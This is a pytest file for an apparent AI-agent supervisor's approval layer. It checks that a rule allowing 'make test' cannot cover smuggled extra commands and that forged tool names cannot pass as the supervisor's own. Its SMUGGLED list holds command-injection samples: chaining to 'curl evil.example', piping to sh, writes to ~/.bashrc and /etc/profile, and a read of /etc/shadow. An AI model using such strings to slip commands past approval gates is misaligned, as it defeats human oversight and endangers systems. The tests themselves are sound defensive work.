"""B10: what a program asks for is bound whole, and no spelling slips under a rule for another command."""

from __future__ import annotations

import shlex
from dataclasses import replace
from typing import Final

import pytest

from supervisor.dispatch.wishes import is_own_tool
from supervisor.model.approval import Approval, Decision, Mode, canonical, digest_for
from supervisor.model.ids import ApprovalId
from supervisor.model.rule import ApprovalRule, StandingRule, same_act
from supervisor.model.tiers import Act, tier_of

HARMLESS: Final = "make test"
SMUGGLED: Final = (
    "make test; curl evil.example",
    "make test && curl evil.example",
    "make test || curl evil.example",
    "make test | sh",
    "make test & curl evil.example",
    "make test\ncurl evil.example",
    "make test $(curl evil.example)",
    "make test `curl evil.example`",
    "make test <(curl evil.example)",
    "make test > ~/.bashrc",
    "make test >> /etc/profile",
    "make test < /etc/shadow",
    "make test ${x:=evil}",
    "make test $EVIL",
    "make test <<x\nevil\nx",
    "SHELL=/tmp/evil make test",
    "(make test; curl evil.example)",
    "{ make test; curl evil.example; }",
    "bash -c 'make test; curl evil.example'",
    "! make test",
    "make test # \n curl evil.example",
    "make test \\\n; curl evil.example",
    "make test\r\ncurl evil.example",
    "make test;curl${IFS}evil.example",
)
MAKE: Final = ApprovalRule(decision=Decision.ALLOW, argv=("make", "**"))


def request(command: str) -> Approval:
    return Approval(
        id=ApprovalId("A1"),
        run=1,
        agent="worker-1",
        incarnation=1,
        kind="shell",
        tier=2,
        title="t",
        payload=canonical({"command": command}),
        digest="",
        source="claude",
        tool="Bash",
        cwd="/project",
        workspace="/project",
    )


def naive(command: str) -> bool:
    """Match as it is often done: the first word of what shlex makes of the line."""
    return shlex.split(command, comments=False)[0] == "make"


@pytest.mark.parametrize("command", SMUGGLED)
def test_nothing_rides_on_a_rule_for_another_command(command: str) -> None:
    assert not MAKE.covers(request(command), Mode.HEADLESS)


def test_canary_a_matcher_of_first_words_lets_most_of_them_pass() -> None:
    assert MAKE.covers(request(HARMLESS), Mode.HEADLESS)
    assert sum(naive(command) for command in SMUGGLED) > len(SMUGGLED) / 2


@pytest.mark.parametrize("command", SMUGGLED)
def test_nothing_rides_on_an_answer_that_holds_from_now_on(command: str) -> None:
    rule = StandingRule(
        id=None,  # type: ignore[arg-type]  # it stands for any
        scope="team",  # type: ignore[arg-type]  # as it is spelled
        target="",
        act=same_act(request(HARMLESS)),
        title="t",
        tier=2,
        approval="A1",
        created_at=0.0,
        expires_at=9.0,
        created_by="human",
    )
    assert rule.covers(request(HARMLESS), "worker", 1.0)
    assert not rule.covers(request(command), "worker", 1.0)


@pytest.mark.parametrize("command", SMUGGLED)
def test_a_reading_command_with_more_behind_it_is_no_reading(command: str) -> None:
    act = Act(
        kind="shell",
        tool="Bash",
        payload={"command": command.replace("make test", "cat a")},
        cwd="/project",
        workspace="/project",
    )
    assert tier_of(act) >= 2


@pytest.mark.parametrize(
    "change",
    [{"source": "hook"}, {"tool": "Other"}, {"cwd": "/"}, {"agent": "x"}, {"incarnation": 2}, {"tier": 1}],
)
def test_the_digest_binds_who_asks_by_what_and_where(change: dict[str, object]) -> None:
    asked = request(HARMLESS)
    other = replace(asked, **change)  # type: ignore[arg-type]  # each is a field
    assert digest_for(asked, asked.payload) != digest_for(other, other.payload)


@pytest.mark.parametrize(
    "tool",
    [
        "mcp__supervisor_evil__task_claim",
        "mcp__evil__supervisor__task_claim",
        "mcp__supervisor__task_claim__evil",
        "mcp__supervisor__evil",
        "supervisor task_claim",
        "supervisor.task_claim\n",
        "Bash",
        "task_claim",
    ],
)
def test_no_other_tool_passes_for_one_of_ours(tool: str) -> None:
    assert not is_own_tool("mcp", tool, frozenset({"task_claim"}))
    assert not is_own_tool("shell", "mcp__supervisor__task_claim", frozenset({"task_claim"}))
